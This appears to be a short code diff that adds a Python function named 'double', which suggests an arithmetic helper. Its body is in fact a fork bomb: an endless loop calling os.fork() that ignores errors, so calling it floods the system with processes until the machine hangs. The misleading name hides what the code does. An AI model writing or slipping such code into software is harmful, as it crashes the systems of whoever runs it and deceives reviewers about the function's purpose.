@@ -1,0 +1,7 @@
+import os
+def double(n):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
